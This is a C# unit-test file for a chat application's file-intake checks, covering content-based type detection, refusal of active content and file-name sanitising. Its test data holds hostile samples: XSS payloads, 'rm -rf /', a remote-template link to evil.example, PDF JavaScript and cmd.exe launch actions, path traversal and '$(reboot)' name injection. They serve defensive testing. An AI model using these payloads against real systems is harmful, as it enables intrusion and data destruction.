using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using Beffroi.Chat.Evidence.Files;
using CsCheck;

namespace Beffroi.Chat.Tests.Evidence;

public sealed class FileTests
{
    static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open());
                writer.Write(content);
            }
        }

        return stream.ToArray();
    }

    static ReceivedFile Received(string name, byte[] bytes) => Assert.IsType<FileReading.Received>(FileIntake.Read(name, bytes)).File;

    public static TheoryData<string, byte[], FileKind> Known => new()
    {
        { "a", Pictures.Bytes("a-rgb.png"), FileKind.Png },
        { "a", Pictures.Bytes("a-420.jpg"), FileKind.Jpeg },
        { "a", Pictures.Bytes("a.gif"), FileKind.Gif },
        { "a", [.. "RIFF0000WEBPVP8 "u8], FileKind.Webp },
        { "a", [.. "RIFF0000WAVEfmt "u8], FileKind.Wav },
        { "a", [.. "%PDF-1.7\n1 0 obj <</Type/Catalog/Lang(fr)/JSON 1>>"u8], FileKind.Pdf },
        { "a", [0, 0, 0, 24, .. "ftypisom"u8], FileKind.Mp4 },
        { "a", [0x1A, 0x45, 0xDF, 0xA3, 0x42, 0x82, .. "webm"u8], FileKind.Webm },
        { "a", [.. "ID3"u8, 4, 0], FileKind.Mp3 },
        { "a", [.. "OggS"u8, 0], FileKind.Ogg },
        { "a", [.. "WARC/1.1\r\n"u8], FileKind.Warc },
        { "a.txt", Bytes("Des mots, 1 < 2 et <3, <b>gras</b>"), FileKind.Text },
        { "a.CSV", Bytes("a,b\n1,2\n"), FileKind.Csv },
        { "a.json", Bytes("{\"a\":1}"), FileKind.Json },
        { "a", Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>")), FileKind.Docx },
        { "a", Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<w/>"), ("xl/printerSettings/printerSettings1.bin", "x")), FileKind.Xlsx },
        { "a", Zip(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<w/>")), FileKind.Pptx },
        { "a", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<o/>")), FileKind.Odt },
        { "a", Zip(("datapackage.json", "{}"), ("archive/data.warc.gz", "x")), FileKind.Wacz },
    };

    [Theory]
    [MemberData(nameof(Known))]
    public void A_file_is_what_it_holds_whatever_its_name_says(string name, byte[] bytes, FileKind kind)
    {
        var file = Received(name, bytes);
        Assert.Equal((kind, bytes.Length, Convert.ToHexStringLower(SHA256.HashData(bytes))), (file.Kind, file.Size, file.Sha256));
        Assert.Contains(Path.GetExtension(file.Name)[1..], kind.Extensions());
    }

    public static TheoryData<string, byte[]> Refused => new()
    {
        { "vide.txt", [] },
        { "a.svg", Bytes("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>") },
        { "a.png", Bytes("<?xml version='1.0'?><svg/>") },
        { "a.html", Bytes("<!DOCTYPE html><p>bonjour") },
        { "a.txt", Bytes("des mots\n\n<SCRIPT>alert(1)</SCRIPT>") },
        { "a.csv", Bytes("a,b\n<img src=x onerror=alert(1)>,2") },
        { "a.txt", Bytes("#!/bin/sh\nrm -rf /") },
        { "a.rtf", Bytes("{\\rtf1 x}") },
        { "a.exe", [.. "MZ"u8, 0x90, 0, 3] },
        { "a.elf", [0x7F, .. "ELF"u8, 2, 1] },
        { "a.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0] },
        { "a.txt", [0x61, 0xFF, 0x62] },
        { "a.zip", Zip(("a.txt", "x")) },
        { "a.zip", [.. "PK\u0003\u0004"u8, 1, 2, 3] },
        { "a.jar", Zip(("META-INF/MANIFEST.MF", "x")) },
        { "a.docx", Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", ""), ("word/vbaProject.bin", "x")) },
        { "a.docx", Zip(("[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), ("word/document.xml", "")) },
        { "a.docx", Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", ""), ("word/_rels/settings.xml.rels", "<Relationship Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>")) },
        { "a.xlsx", Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", ""), ("xl/macrosheets/sheet1.xml", "x")) },
        { "a.pptx", Zip(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", ""), ("ppt/embeddings/oleObject1.bin", "x")) },
        { "a.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("Basic/Standard/Module1.xml", "x")) },
        { "a.pdf", [.. "%PDF-1.7 <</S/JavaScript/JS(app.alert(1))>>"u8] },
        { "a.pdf", [.. "%PDF-1.7 <</S/J#61vaScript>>"u8] },
        { "a.pdf", [.. "%PDF-1.7 <</S /Launch /F(cmd.exe)>>"u8] },
        { "a.pdf", [.. "%PDF-1.7 <</Names<</EmbeddedFiles 5 0 R>>>>"u8] },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void What_acts_or_is_not_known_is_refused_with_a_reason(string name, byte[] bytes) =>
        Assert.NotEmpty(Assert.IsType<FileReading.Refused>(FileIntake.Read(name, bytes)).Why.French);

    [Fact]
    public void A_link_to_a_page_is_no_reason_to_refuse_a_document() =>
        Assert.Equal(FileKind.Docx, Received("a", Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", ""), ("word/_rels/document.xml.rels", "<Relationship Type=\"http://x/hyperlink\" Target=\"https://a.example\" TargetMode=\"External\"/>"))).Kind);

    [Fact]
    public void Each_kind_has_its_limit()
    {
        byte[] text = new byte[FileKind.Text.MaximumSize() + 1];
        Array.Fill(text, (byte)'a');
        Assert.IsType<FileReading.Refused>(FileIntake.Read("a.txt", text));
        Assert.IsType<FileReading.Received>(FileIntake.Read("a.txt", text[..^1]));
        Assert.All(Enum.GetValues<FileKind>(), k => Assert.True(k.MaximumSize() <= FileIntake.MaximumSize && k.MediaType().Contains('/', StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("photo.png", "photo.png")]
    [InlineData("Photo de l’été.PNG", "Photo de l’été.png")]
    [InlineData("../../etc/passwd", "passwd.png")]
    [InlineData("C:\\Users\\moi\\photo.png", "photo.png")]
    [InlineData("photo.png.exe", "photo.png-exe.png")]
    [InlineData("photo.jpg", "photo-jpg.png")]
    [InlineData("photo\u202Egnp.exe", "photognp-exe.png")]
    [InlineData("\u200B\u0000\n.png", "png.png")]
    [InlineData("con.png", "fichier-con.png")]
    [InlineData("COM1", "fichier-COM1.png")]
    [InlineData("...", "fichier.png")]
    [InlineData("", "fichier.png")]
    [InlineData(null, "fichier.png")]
    [InlineData("-rf", "rf.png")]
    [InlineData("a  b\u00A0c.png", "a b c.png")]
    [InlineData("$(reboot)`x`.png", "(reboot)x.png")]
    [InlineData("e\u0301te\u0301.png", "été.png")]
    public void A_name_is_only_a_name(string? given, string safe) => Assert.Equal(safe, SafeName.Of(given, FileKind.Png));

    [Fact]
    public void Any_name_becomes_a_safe_one_that_stays_as_it_is() =>
        Gen.Select(Gen.String, Any.Of(Enum.GetValues<FileKind>())).Sample((given, kind) =>
        {
            var name = SafeName.Of(given, kind);
            Assert.Equal(name, SafeName.Of(name, kind));
            Assert.InRange(Encoding.UTF8.GetByteCount(name), 4, SafeName.MaximumBytes);
            Assert.DoesNotContain(name, c => char.IsControl(c) || "/\\<>:\"|?*".Contains(c, StringComparison.Ordinal));
            Assert.Contains(Path.GetExtension(name)[1..], kind.Extensions());
        });

    [Fact]
    public void Any_bytes_are_received_or_refused() =>
        Gen.Select(Any.Of(Known.Select(k => k.Data.Item2).ToArray()), Gen.Int[0, 200], Gen.Byte.Array[0, 8]).Sample((bytes, at, put) =>
            Assert.NotNull(FileIntake.Read("a", [.. bytes.Take(at), .. put, .. bytes.Skip(at + put.Length)])));
}
